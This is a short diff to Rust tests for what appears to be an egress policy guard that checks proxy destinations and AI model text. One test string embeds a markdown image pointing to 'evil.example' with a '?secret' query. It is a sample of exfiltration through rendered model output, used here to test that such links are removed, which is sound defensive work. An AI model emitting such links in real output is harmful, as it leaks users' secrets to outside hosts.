@@ -431,6 +431,7 @@ async fn the_forward_proxys_destinations_are_judged_by_its_section() {
             ..Reach::default()
         },
         methods: vec!["GET".to_owned()],
+        budget: None,
         require_sni: true,
     };
     let mut policy = with(Vec::new());
@@ -442,6 +443,7 @@ async fn the_forward_proxys_destinations_are_judged_by_its_section() {
             authority: authority.into(),
             url: url.map(Into::into),
             method: method.into(),
+            body: None,
         });
         let mut exchange = exchange(item, "ann");
         (exchange.kind, exchange.leg) = (kind, leg);
@@ -505,7 +507,7 @@ async fn rendered_text_loses_what_leads_elsewhere() {
     });
     let guard = guard(policy, LayerId::Egress, Stores::default()).unwrap();
     let text = "See [it](https://api.shop.example/) ![x](https://evil.example/?secret) `https://evil.example`";
-    let item = Item::ModelText(ModelText { text: text.into() });
+    let item = Item::ModelText(ModelText::whole(text));
     let (verdict, reached) = verdict(&guard, item, "ann").await;
     assert!(reached);
     assert_eq!(
